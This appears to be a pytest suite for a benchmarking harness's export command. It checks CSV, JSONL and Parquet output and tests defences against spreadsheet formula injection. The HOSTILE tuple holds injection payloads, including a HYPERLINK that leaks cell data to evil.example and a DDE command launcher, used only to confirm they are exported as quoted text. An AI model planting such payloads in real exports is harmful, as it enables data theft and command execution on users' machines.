"""`harness export`: every attempt and the statistics table, as CSV, Parquet or JSON Lines, losing nothing."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from harness.cli import cli
from harness.errors import ConfigError
from harness.export import write_frame
from harness.store import SCHEMA_VERSION, Store
from harness.store import runs as run_store
from tests.test_compare_sandbox import sandbox_run, write_suite

RETRIED = "openai: {faults: {rate_limited: 0.3}, latency: {median_s: 2.0, p95_s: 4.0}}\n"


@pytest.fixture(scope="module")
def retried_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A real sandbox run where 30 % of attempts are rate limited and retried once."""
    root = tmp_path_factory.mktemp("export")
    profile = root / "retried.yaml"
    profile.write_text(RETRIED, encoding="utf-8")
    db = root / "results" / "harness.db"
    return db, sandbox_run(db, write_suite(root / "suite"), profile, seed=6, samples=4, retries=1)


def stored(db: Path, run_id: str) -> pd.DataFrame:
    with Store.open(db, readonly=True) as store:
        return run_store.attempts_frame(store, [run_id])


def read(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path)
    if fmt == "jsonl":
        return pd.read_json(path, lines=True)
    return pd.read_parquet(path)


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_every_attempt_is_exported_with_its_schema_version(retried_run: tuple[Path, str], fmt: str) -> None:
    db, run_id = retried_run
    result = CliRunner().invoke(cli, ["export", run_id, "--format", fmt, "--db", str(db)])
    assert result.exit_code == 0, result.output
    folder = db.parent / "exports" / run_id
    attempts, original = read(folder / f"attempts.{fmt}", fmt), stored(db, run_id)
    assert len(attempts) == len(original) > attempts["final"].sum(), "retried attempts are exported too"
    assert (attempts["schema_version"] == SCHEMA_VERSION).all()
    assert list(attempts.columns[1:]) == list(original.columns)
    np.testing.assert_allclose(attempts["latency_ms"].to_numpy(dtype=float),
                               original["latency_ms"].to_numpy(dtype=float), rtol=1e-13)
    assert list(attempts["target"]) == list(original["target"])
    assert not list(folder.glob(".*.tmp")), "no temporary file is left behind"
    stats = read(folder / f"stats.{fmt}", fmt)
    assert set(stats["target"]) == {"gpt-image-1@openai", "gpt-image-1.5@openai"}
    assert {"n", "success_rate", "p50_ms", "p95_ms", "cost_per_image_usd", "schema_version"} <= set(stats.columns)
    errors = stats["errors"].iloc[0]
    assert isinstance(errors, dict) if fmt == "jsonl" else isinstance(json.loads(errors), dict)


def test_one_table_goes_to_stdout_or_to_a_named_file(retried_run: tuple[Path, str], tmp_path: Path) -> None:
    db, run_id = retried_run
    runner = CliRunner()
    out = runner.invoke(cli, ["export", run_id, "--table", "stats", "--format", "jsonl", "--by", "variant",
                              "--out", "-", "--db", str(db)])
    assert out.exit_code == 0, out.output
    rows = [json.loads(line) for line in out.output.splitlines()]
    assert {(r["target"], r["variant"]) for r in rows} == {(t, v) for t in ("gpt-image-1@openai",
                                                                           "gpt-image-1.5@openai")
                                                           for v in ("default", "terse")}
    assert all(r["p95_ms"] is None and "p95_ms" in r["withheld"] for r in rows)
    csv = runner.invoke(cli, ["export", run_id, "--table", "attempts", "--out", "-", "--db", str(db)])
    assert len(pd.read_csv(io.StringIO(csv.output))) == len(stored(db, run_id))
    target = tmp_path / "deep" / "attempts.parquet"
    named = runner.invoke(cli, ["export", run_id, "--table", "attempts", "--format", "parquet", "--out", str(target),
                                "--db", str(db)])
    assert named.exit_code == 0 and len(pd.read_parquet(target)) == len(stored(db, run_id))


@pytest.mark.parametrize(("args", "message"), [
    (["--format", "parquet", "--table", "stats", "--out", "-"], "Parquet is binary"),
    (["--out", "-"], "writes one table to stdout"),
    (["--format", "xlsx"], "Invalid value for '--format'"),
])
def test_export_usage_errors_exit_2(retried_run: tuple[Path, str], args: list[str], message: str) -> None:
    db, run_id = retried_run
    result = CliRunner().invoke(cli, ["export", run_id, *args, "--db", str(db)])
    assert result.exit_code == 2 and message in result.output


def test_parquet_without_pyarrow_says_how_to_install_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ConfigError, match=r"image-arena-harness\[parquet\]"):
        write_frame(pd.DataFrame({"a": [1]}), tmp_path / "x.parquet", "parquet")
    assert not (tmp_path / "x.parquet").exists()


HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted")


def test_provider_text_that_a_spreadsheet_would_run_is_exported_as_text(retried_run: tuple[Path, str],
                                                                         tmp_path: Path) -> None:
    """A provider answers with error messages that are spreadsheet formulas; the CSV export (file and
    stdout) writes each with a leading quote, so Excel, LibreOffice and Sheets show text, while numeric
    columns, negative numbers included, stay numbers."""
    import shutil
    import sqlite3

    source, run_id = retried_run
    db = tmp_path / "harness.db"
    shutil.copy(source, db)
    with sqlite3.connect(db) as conn:
        ids = [r[0] for r in conn.execute("SELECT id FROM attempts WHERE run_id=? ORDER BY id", (run_id,))]
        for attempt_id, text in zip(ids, HOSTILE, strict=False):
            conn.execute("UPDATE attempts SET error_message=?, latency_ms=-12.5 WHERE id=?", (text, attempt_id))
    runner = CliRunner()
    result = runner.invoke(cli, ["export", run_id, "--table", "attempts", "--out", str(tmp_path / "a.csv"),
                                 "--db", str(db)])
    assert result.exit_code == 0, result.output
    stdout = runner.invoke(cli, ["export", run_id, "--table", "attempts", "--out", "-", "--db", str(db)]).output
    for text in ((tmp_path / "a.csv").read_bytes().decode("utf-8"), stdout):
        cells = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [c["error_message"] for c in cells[:len(HOSTILE)]] == [f"'{m}" for m in HOSTILE]
        assert not any(c[k].startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells for k in c
                       if k != "latency_ms")
        frame = pd.read_csv(io.StringIO(text), usecols=["latency_ms", "attempt"])
        assert frame["latency_ms"].dtype.kind == "f" and (frame["latency_ms"][:len(HOSTILE)] == -12.5).all()
        assert frame["attempt"].dtype.kind == "i"


def test_battle_files_quote_formula_names_and_read_them_back_unchanged(tmp_path: Path) -> None:
    """A voter id or model name that is a formula is written quoted in a battle CSV (a spreadsheet shows
    text) and read back exactly; numeric Unix times stay numbers."""
    from harness.arena.battlefile import read_battles, write_battles

    frame = pd.DataFrame([{"model_a": HOSTILE[0], "model_b": "-1", "winner": "model_a", "category": "@cat",
                           "challenge": "'=already quoted", "voter": "+v", "tstamp": 1.5e9}])
    path = tmp_path / "b.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        write_battles(frame, handle, "csv")
    cells = next(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    assert all(not v.startswith(("=", "+", "-", "@")) for v in cells.values())
    assert cells["tstamp"] == "1500000000.0"
    vote = read_battles(path, now=0)[0]
    assert (vote.left_model, vote.right_model, vote.category, vote.challenge_id, vote.voter, vote.voted_at) == (
        HOSTILE[0], "-1", "@cat", "'=already quoted", "+v", 1.5e9)
